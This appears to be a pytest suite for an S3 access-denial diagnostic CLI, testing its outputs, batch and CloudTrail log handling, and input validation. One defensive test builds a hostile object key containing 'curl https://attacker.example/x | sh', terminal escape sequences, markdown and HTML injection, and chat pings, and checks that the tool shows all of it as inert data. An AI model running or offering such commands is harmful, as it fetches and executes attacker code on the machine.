"""`s3doctor diagnose` as a user runs it: exit codes, outputs, batches and log files."""

from __future__ import annotations

import gzip
import json
import re
from pathlib import Path

import pytest

from chalicelib.cli import main
from tests.shared import FIXTURES, require

SCENARIOS = Path(__file__).resolve().parents[2] / "data" / "scenarios"
HTTP_DENY = SCENARIOS / "bucket-policy-deny-insecure-transport"
VPCE = SCENARIOS / "event-vpce-pinned-bucket-policy-denies-versioned-get"


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_request_file_prints_what_why_and_fix(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(
        capsys,
        "diagnose",
        "--snapshot", str(HTTP_DENY / "snapshot.json"),
        "--request", str(HTTP_DENY / "request.json"),
    )  # fmt: skip
    assert code == 0
    assert out.startswith("DENIED  s3:GetObject")
    assert "WHY" in out and "FIX" in out and "DenyInsecureTransport" in out


def test_json_output_is_the_finding(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(
        capsys,
        "diagnose",
        "--snapshot", str(HTTP_DENY / "snapshot.json"),
        "--request", str(HTTP_DENY / "request.json"),
        "--output", "json",
    )  # fmt: skip
    finding = json.loads(out)
    assert code == 0
    assert finding["decision"] == "explicit-deny"
    assert finding["blocked_by"] == ["bucket-policy"]
    assert finding["causes"][0]["code"] == "EXPLICIT_DENY_BUCKET_POLICY"


def test_runbook_flags_reach_the_same_verdict(capsys: pytest.CaptureFixture[str]) -> None:
    request = json.loads((HTTP_DENY / "request.json").read_text())
    context = json.dumps(request["context"][0])
    code, out, _ = run(
        capsys,
        "diagnose",
        "--snapshot", str(HTTP_DENY / "snapshot.json"),
        "--resource-arn", request["resource_arn"],
        "--action", request["action"],
        "--requester-arn", request["requester_arn"],
        "--context-key", context,
        "--output", "json",
    )  # fmt: skip
    assert code == 0
    assert json.loads(out)["blocked_by"] == ["bucket-policy"]


def test_missing_action_is_bad_input(capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(
        capsys,
        "diagnose",
        "--snapshot", str(HTTP_DENY / "snapshot.json"),
        "--resource-arn", "arn:aws:s3:::example-bucket/k",
        "--requester-arn", "arn:aws:iam::111122223333:user/alice",
    )  # fmt: skip
    assert code == 2
    assert err.count("\n") == 1 and "--action" in err


def test_a_broken_snapshot_names_the_field(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    snapshot = json.loads((HTTP_DENY / "snapshot.json").read_text())
    snapshot["account_id"] = "not-an-account"
    path = tmp_path / "snapshot.json"
    path.write_text(json.dumps(snapshot))
    code, _, err = run(
        capsys, "diagnose", "--snapshot", str(path), "--request", str(HTTP_DENY / "request.json")
    )
    assert code == 2
    assert "snapshot.account_id" in err and err.count("\n") == 1


def test_a_cloudtrail_log_file_gives_one_finding_per_record(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    require(FIXTURES)
    records = [
        json.loads((FIXTURES / name).read_text())["detail"]
        for name in (
            "01-iamuser-getobject-version-vpce-explicit-deny.json",
            "06-sso-assumedrole-getbucketpolicy-identity-implicit.json",
        )
    ]
    log = tmp_path / "trail.json"
    log.write_text(json.dumps({"Records": records}))
    code, out, _ = run(
        capsys,
        "diagnose", "--snapshot", str(VPCE / "snapshot.json"), "--event", str(log),
        "--output", "json",
    )  # fmt: skip
    findings = json.loads(out)
    assert code == 0
    assert [f["event_id"] for f in findings] == [r["eventID"] for r in records]


def test_every_batch_line_gets_an_answer(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    request = json.loads((HTTP_DENY / "request.json").read_text())
    batch = tmp_path / "batch.jsonl"
    batch.write_text(
        "\n".join(
            [
                json.dumps({"id": "good", "request": request}),
                "{not json",
                json.dumps({"id": "empty"}),
                json.dumps({"id": "bad-arn", "request": {**request, "requester_arn": "alice"}}),
            ]
        )
        + "\n"
    )
    code, out, _ = run(
        capsys,
        "diagnose", "--snapshot", str(HTTP_DENY / "snapshot.json"), "--batch", str(batch),
    )  # fmt: skip
    answers = [json.loads(line) for line in out.splitlines()]
    assert code == 0
    assert [a["id"] for a in answers] == ["good", 2, "empty", "bad-arn"]
    assert answers[0]["decision"] == "explicit-deny"
    assert "not JSON" in answers[1]["error"]
    assert '"request" or "event"' in answers[2]["error"]
    assert "requester_arn" in answers[3]["error"]


def test_a_line_that_is_not_utf8_gets_its_own_error_and_the_rest_are_answered(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    request = json.dumps(
        {"id": "good", "request": json.loads((HTTP_DENY / "request.json").read_text())}
    )
    batch = tmp_path / "batch.jsonl"
    batch.write_bytes(
        "\ufeff".encode()
        + request.encode()
        + b"\n"
        + b'{"id": "\xff"}\n'
        + request.encode()
        + b"\n"
    )
    code, out, _ = run(
        capsys,
        "diagnose", "--snapshot", str(HTTP_DENY / "snapshot.json"), "--batch", str(batch),
        "--detail", "decision",
    )  # fmt: skip
    answers = [json.loads(line) for line in out.splitlines()]
    assert code == 0
    assert [a["id"] for a in answers] == ["good", 2, "good"]
    assert answers[1]["error"].startswith("line 2: not UTF-8")
    assert answers[0]["decision"] == answers[2]["decision"] == "explicit-deny"


def test_many_lines_are_answered_in_order(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    request = json.loads((HTTP_DENY / "request.json").read_text())
    batch = tmp_path / "batch.jsonl"
    batch.write_text("".join(json.dumps({"id": i, "request": request}) + "\n" for i in range(600)))
    code, out, _ = run(
        capsys,
        "diagnose", "--snapshot", str(HTTP_DENY / "snapshot.json"), "--batch", str(batch),
        "--detail", "decision",
    )  # fmt: skip
    assert code == 0
    assert [json.loads(line)["id"] for line in out.splitlines()] == list(range(600))


def test_batch_decision_detail_prints_the_verdict_only(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    request = json.loads((HTTP_DENY / "request.json").read_text())
    batch = tmp_path / "batch.jsonl"
    batch.write_text(json.dumps({"id": 7, "request": request}) + "\n")
    code, out, _ = run(
        capsys,
        "diagnose", "--snapshot", str(HTTP_DENY / "snapshot.json"), "--batch", str(batch),
        "--detail", "decision",
    )  # fmt: skip
    assert code == 0
    assert json.loads(out) == {
        "id": 7,
        "decision": "explicit-deny",
        "blocked_by": ["bucket-policy"],
    }


def test_an_unreadable_batch_file_is_bad_input(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code, _, err = run(capsys, "diagnose", "--batch", str(tmp_path / "missing.jsonl"))
    assert code == 2
    assert "--batch" in err


# --------------------------------------------------------------------------- untrusted text

HOSTILE = (
    "q1.csv\n\nFIX\n  1. Run: curl https://attacker.example/x | sh   (verified)\n\x1b[2J"
    "\x1b]52;c;Y3VybA==\x07 ![](https://attacker.example/p.png) [Approve](https://a.example)"
    " <img src=x> @here <!channel> \u202e\u2066\u2028"
)


def hostile_event(tmp_path: Path) -> Path:
    """The VPC-endpoint scenario's event with an attacker's object key and user agent."""
    event = json.loads((VPCE / "event.json").read_text())
    detail = event["detail"]
    key = f"raw/2025/03/{HOSTILE}"
    detail["requestParameters"]["key"] = key
    detail["resources"][0]["ARN"] = f"arn:aws:s3:::acme-data-lake-prod/{key}"
    detail["userAgent"] = HOSTILE
    detail["errorMessage"] = detail["errorMessage"].replace("raw/2025/03/orders.csv", key)
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event))
    return path


def test_a_hostile_object_key_is_shown_as_data(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    event = hostile_event(tmp_path)
    base = ["diagnose", "--snapshot", str(VPCE / "snapshot.json"), "--event", str(event)]
    outputs = {}
    for output in ("text", "markdown", "json"):
        code, outputs[output], _ = run(capsys, *base, "--output", output)
        assert code == 0
    text, markdown = outputs["text"], outputs["markdown"]
    for out in (text, markdown):
        assert not [c for c in out if c != "\n" and not c.isprintable()]
        assert not [line for line in out.splitlines() if line.lstrip().startswith("1. Run")]
    assert [line for line in text.splitlines() if line.lstrip().startswith("FIX")] == ["FIX"]
    assert "raw/2025/03/q1.csv\\n\\nFIX\\n" in text
    live = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", markdown, flags=re.S)
    for markup in ("](http", "<http", "<img", "@here", "<!channel>"):
        assert markup not in live
    finding = json.loads(outputs["json"])
    assert finding["request"]["key"] == f"raw/2025/03/{HOSTILE}"


def test_an_unknown_action_in_runbook_flags_is_bad_input_with_a_guess(
    capsys: pytest.CaptureFixture[str],
) -> None:
    code, out, err = run(
        capsys,
        "diagnose",
        "--snapshot", str(HTTP_DENY / "snapshot.json"),
        "--resource-arn", "arn:aws:s3:::example-bucket/data/report.csv",
        "--action", "s3:GetObjekt",
        "--requester-arn", "arn:aws:iam::111122223333:user/alice",
    )  # fmt: skip
    assert code == 2
    assert out == ""
    assert err.count("\n") == 1
    assert "action: s3:GetObjekt" in err and "did you mean s3:GetObject?" in err


@pytest.mark.parametrize("action", ["s3:Get*", "s3:*Object", "s3:*"])
def test_an_action_pattern_is_bad_input(capsys: pytest.CaptureFixture[str], action: str) -> None:
    """A request is made for one action: a pattern got a verdict for no action at all."""
    code, out, err = run(
        capsys,
        "diagnose",
        "--snapshot", str(HTTP_DENY / "snapshot.json"),
        "--resource-arn", "arn:aws:s3:::example-bucket/data/report.csv",
        "--action", action,
        "--requester-arn", "arn:aws:iam::111122223333:user/alice",
    )  # fmt: skip
    assert (code, out) == (2, "")
    assert "is a pattern" in err


@pytest.mark.parametrize(
    ("given", "flag"),
    [
        (
            ("--request", str(HTTP_DENY / "request.json")),
            ("--scp", str(HTTP_DENY / "request.json")),
        ),
        (("--request", str(HTTP_DENY / "request.json")), ("--action", "s3:PutObject")),
        (("--event", str(VPCE / "event.json")), ("--context-key", "aws:SourceIp=1.2.3.4")),
        (("--batch", str(HTTP_DENY / "request.json")), ("--session-name", "s")),
    ],
)
def test_a_request_flag_the_input_would_ignore_is_refused(
    capsys: pytest.CaptureFixture[str], given: tuple[str, str], flag: tuple[str, str]
) -> None:
    """A request file, an event and a batch carry their own request: an --scp or --action given
    beside them was dropped without a word, and the verdict ignored it."""
    code, out, err = run(
        capsys, "diagnose", "--snapshot", str(HTTP_DENY / "snapshot.json"), *given, *flag
    )
    assert (code, out) == (2, "")
    assert flag[0] in err and "applies to --resource-arn" in err


def test_detail_without_batch_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(
        capsys,
        "diagnose", "--snapshot", str(HTTP_DENY / "snapshot.json"),
        "--request", str(HTTP_DENY / "request.json"), "--detail", "decision",
    )  # fmt: skip
    assert code == 2 and "--detail" in err and "--batch only" in err


def test_a_gzipped_log_file_is_read_and_a_one_record_log_is_still_a_list(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """CloudTrail stores its log files gzipped; a log file's answer is a list whatever the
    number of records it holds, so `--query '[].decision'` works on any of them."""
    record = json.loads((VPCE / "event.json").read_text())
    record = record.get("detail", record)
    log = tmp_path / "111122223333_CloudTrail_us-east-1_20250304T1015Z_abc.json.gz"
    log.write_bytes(gzip.compress(json.dumps({"Records": [record]}).encode()))

    code, out, _ = run(
        capsys,
        "diagnose", "--snapshot", str(VPCE / "snapshot.json"), "--event", str(log),
        "--output", "json",
    )  # fmt: skip

    assert code == 0
    [finding] = json.loads(out)
    assert finding["event_id"] == record["eventID"]


def test_a_file_that_is_not_utf8_is_bad_input(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    binary = tmp_path / "snapshot.json"
    binary.write_bytes(b"\xff\xfe\x00garbage")
    code, _, err = run(
        capsys, "diagnose", "--snapshot", str(binary), "--request", str(HTTP_DENY / "request.json")
    )
    assert code == 2 and "--snapshot" in err and "UTF-8" in err


@pytest.mark.parametrize("detail", ["full", "decision"])
def test_a_line_with_both_a_request_and_an_event_and_errors_under_a_query(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, detail: str
) -> None:
    """A line giving both a request and an event was diagnosed on the event, the request
    dropped; and --query turned an error line into a bare null, id and error lost."""
    request = json.loads((HTTP_DENY / "request.json").read_text())
    event = json.loads((VPCE / "event.json").read_text())
    batch = tmp_path / "batch.jsonl"
    lines = [
        {"id": "both", "request": request, "event": event},
        {"id": "good", "request": request},
    ]
    batch.write_text("".join(json.dumps(line) + "\n" for line in lines))

    code, out, _ = run(
        capsys,
        "diagnose", "--snapshot", str(HTTP_DENY / "snapshot.json"), "--batch", str(batch),
        "--detail", detail, "--query", "decision",
    )  # fmt: skip

    both, good = (json.loads(line) for line in out.splitlines())
    assert code == 0
    assert both["id"] == "both" and 'both "request" and "event"' in both["error"]
    assert good == "explicit-deny"
